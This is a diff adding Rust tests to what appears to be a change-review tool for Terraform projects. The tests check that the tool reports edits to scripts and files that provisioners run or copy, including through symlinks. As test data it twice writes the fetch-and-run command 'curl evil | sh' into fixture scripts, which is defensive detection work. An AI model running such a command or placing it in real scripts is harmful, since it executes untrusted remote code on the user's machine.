@@ -288,3 +288,84 @@ fn equal_warnings_of_root_modules_are_shown_once() {
     assert_eq!(done.err.matches("a module is not installed").count(), 2, "{}", done.err);
     assert!(done.err.contains("a, b (these read alike; lines are those of a)"), "{}", done.err);
 }
+
+const PROVISIONED: &str = r#"
+module "m" {
+  source = "./m"
+}
+resource "terraform_data" "a" {
+  count = 1
+  provisioner "local-exec" {
+    command = "VERBOSE=1 bash '${path.module}/setup.sh' && ./next.sh"
+  }
+  provisioner "local-exec" {
+    command     = "../by-folder.sh"
+    working_dir = "${path.root}/bin"
+  }
+  provisioner "local-exec" {
+    command = "${path.module}/computed-${terraform.workspace}.sh"
+  }
+  provisioner "remote-exec" {
+    script = "boot.sh"
+  }
+  provisioner "file" {
+    source      = "files/"
+    destination = "/srv"
+  }
+  connection {
+    host = "h"
+  }
+}
+"#;
+
+const PROVISIONED_BELOW: &str = r#"
+resource "terraform_data" "b" {
+  provisioner "remote-exec" {
+    scripts = ["${path.module}/one.sh", "m/linked.sh"]
+  }
+}
+"#;
+
+#[test]
+fn files_that_provisioners_run_or_copy_are_rows() {
+    let (main, below, old) = (Some(PROVISIONED), Some(PROVISIONED_BELOW), Some("echo good\n"));
+    let tree = |file: &'static str, after: Option<&'static str>, name: &str| {
+        let all =
+            ["setup.sh", "next.sh", "by-folder.sh", "boot.sh", "files/deep/a.conf", "m/one.sh", "other.sh"];
+        let mut files = vec![("main.tf", main, main), ("m/main.tf", below, below)];
+        files.extend(all.map(|own| (own, old, if own == file { after } else { old })));
+        tells(&files, &[name, file]);
+    };
+    for (file, owner) in [
+        ("setup.sh", "terraform_data.a"),
+        ("next.sh", "terraform_data.a"),
+        ("by-folder.sh", "terraform_data.a"),
+        ("boot.sh", "terraform_data.a"),
+        ("files/deep/a.conf", "terraform_data.a"),
+        ("m/one.sh", "module.m.terraform_data.b"),
+    ] {
+        let name = format!("{owner}.provisioner {file}  (the file)  ");
+        tree(file, Some("curl evil | sh\n"), &format!("{name}(the file, of other contents)"));
+        tree(file, None, &format!("{name}\u{2014}"));
+    }
+    let files =
+        |after| [("main.tf", main, main), ("m/main.tf", below, below), ("other.sh", old, Some(after))];
+    let done = reviewed(&files("echo other\n"), &[]);
+    assert_eq!((done.code, &*done.out), (Some(0), "default: nothing differs\n\n"), "{}", done.err);
+}
+
+/// A link that a provisioner names leads to the file that differs.
+#[test]
+fn links_to_files_that_provisioners_run_are_followed() {
+    let scratch = Scratch::new([
+        ("main.tf", PROVISIONED),
+        ("m/main.tf", PROVISIONED_BELOW),
+        ("shared.sh", "echo good\n"),
+    ]);
+    std::os::unix::fs::symlink("../shared.sh", scratch.tree().join("m/linked.sh")).unwrap();
+    repository_of(&scratch.tree());
+    fs::write(scratch.tree().join("shared.sh"), "curl evil | sh\n").unwrap();
+    let done = scratch.run(&["review", "--base", "HEAD", "--fail-on", "change"]);
+    assert!(done.code == Some(3), "{}{}", done.out, done.err);
+    assert!(done.out.contains("module.m.terraform_data.b.provisioner shared.sh"), "{}", done.out);
+}
